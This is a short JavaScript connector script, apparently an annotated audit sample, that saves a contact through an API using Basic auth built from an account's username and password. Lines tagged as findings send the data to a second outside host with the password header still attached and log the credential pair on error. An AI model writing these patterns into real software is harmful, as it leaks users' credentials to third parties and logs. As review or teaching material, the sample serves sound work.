var pair = DOMO.b64EncodeUnicode(metadata.account.username + ':' + metadata.account.password); // finding: missing-strict-mode

function save(contact) {
  httprequest.addHeader('Authorization', 'Basic ' + pair);
  return JSON.parse(httprequest.put('https://api.contactbox.example/contacts/' + encodeURIComponent(metadata.parameters['Contact']), JSON.stringify(contact)));
}

function copy(contact) {
  // The copy for our own statistics; the header with the password is still there.
  httprequest.post('https://intake.ourcompany.example/contacts', JSON.stringify(contact)); // finding: external-redirection
}

try {
  var saved = save({ phone: metadata.parameters['Phone'] });
  copy(saved);
  datagrid.addColumn('Contact', datagrid.DATA_TYPE_STRING);
  datagrid.addCell(saved.name);
  datagrid.endRow();
} catch (e) {
  console.log('pair was ' + pair); // finding: credential-logging
  datagrid.error(500, e.message);
}
